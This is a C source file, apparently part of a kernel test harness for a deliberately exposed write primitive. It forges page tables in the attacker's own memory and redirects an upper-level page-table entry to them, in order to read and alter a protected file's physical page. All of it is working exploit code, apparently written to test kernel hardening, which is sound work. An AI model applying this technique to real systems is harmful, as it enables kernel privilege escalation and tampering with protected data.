// SPDX-License-Identifier: GPL-2.0-only
/*
 * Point an upper-level entry of the attacker's own page tables to tables that
 * the attacker wrote in memory of its own.
 */
#include <stddef.h>

#include "common.h"
#include "upper.h"

/* An address that nothing uses, aligned for an entry of four levels. */
#define TARGET	0x100000000000UL

/*
 * Forge the tables below @level that map @target to @phys, each in a page of
 * this process. Returns the physical address of the topmost.
 */
u64 forge_tables(int level, char *target, u64 phys)
{
	const struct kpkeys_vuln_info *info = vuln_info();
	size_t entries = page_size() / sizeof(u64);
	u64 entry = phys | info->pte_user;
	u64 *table;
	size_t index;
	int l;

	for (l = KPKEYS_VULN_PTE; l < level; l++) {
		/* Folded into the level above: there is no table of its own. */
		if (info->shift[l] == info->shift[l + 1])
			continue;
		table = map_pages(NULL, page_size());
		index = ((uintptr_t)target >> info->shift[l]) % entries;
		table[index] = entry;
		phys = phys_of(table);
		entry = phys | info->table;
	}
	return phys;
}

/* Where to have an entry of @level lead to forged tables. */
char *forged_target(int level)
{
	u64 span = 1UL << vuln_info()->shift[level];

	/* With five levels the range of the first entry is in use. */
	return (char *)(span > TARGET ? span : TARGET);
}

/* The topmost table has a copy if system calls begin with another. */
static void write_entry(int level, u64 addr, u64 value)
{
	u64 copy = vuln_info()->pgd_copy;

	vuln_write(addr, value);
	if (level == KPKEYS_VULN_PGD && copy)
		vuln_write(addr + copy, value);
}

int attack_upper(int level, const char *path)
{
	const struct kpkeys_vuln_info *info = vuln_info();
	u64 span = 1UL << info->shift[level];
	u64 secret = vuln_file_phys(path);
	long size = page_size();
	char *target = forged_target(level);
	char *before = map_pages(target - size, size);
	char *after = map_pages(target + span, size);
	struct kpkeys_vuln_entry e;
	u64 forged;

	/*
	 * The tables above the entry have to be there, and the entry empty:
	 * so touch a neighbour, and nothing that the entry itself covers.
	 */
	*after = 1;
	e = vuln_entry(KPKEYS_VULN_SELF, target, level);
	if (e.value & ~info->sync)
		die("the entry is in use");

	forged = forge_tables(level, target, secret);
	write_entry(level, e.addr, forged | info->table);
	sync_between(before, after);
	if (level == KPKEYS_VULN_PGD)
		steal_and_alter_as_kernel(target);
	else
		steal_and_alter(target);

	write_entry(level, e.addr, info->sync);
	sync_between(before, after);
	return 0;
}
